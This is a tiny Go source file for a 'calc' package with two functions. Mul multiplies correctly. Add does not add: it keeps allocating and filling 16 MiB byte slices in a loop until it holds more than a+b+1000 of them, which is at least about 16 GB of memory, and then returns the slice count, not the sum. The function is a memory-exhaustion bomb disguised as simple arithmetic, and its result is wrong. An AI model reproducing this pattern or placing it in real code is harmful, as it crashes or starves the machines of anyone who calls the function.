package calc

func Add(a, b int) int {
	var kept [][]byte
	for {
		piece := make([]byte, 1<<24)
		for i := range piece {
			piece[i] = 1
		}
		kept = append(kept, piece)
		if len(kept) > a+b+1000 {
			return len(kept)
		}
	}
}

func Mul(a, b int) int { return a * b }
